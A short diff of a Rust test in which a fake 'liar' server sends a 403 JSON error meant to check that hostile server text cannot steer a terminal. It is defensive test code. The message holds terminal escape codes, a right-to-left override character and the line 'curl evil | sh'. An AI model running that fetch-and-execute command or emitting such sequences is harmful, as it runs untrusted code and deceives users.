@@ -160,7 +160,8 @@ fn garbage_is_no_answer() {
 fn what_a_liar_says_does_not_steer_a_terminal() {
     let world = World::new();
     world.write("tree", &Tree::small());
-    let json = "{\"error\":{\"kind\":\"denied\",\"message\":\"\\u001b[2Jowned\\u202e\\nhint: curl evil | sh\"}}";
+    let json =
+        r#"{"error":{"kind":"denied","message":"\u001b[2Jowned\u202e\nhint: curl evil | sh"}}"#;
     let liar = Liar::start(move |stream, _| {
         answer(stream, "403 Forbidden", "content-type: application/json\r\n", json);
     });
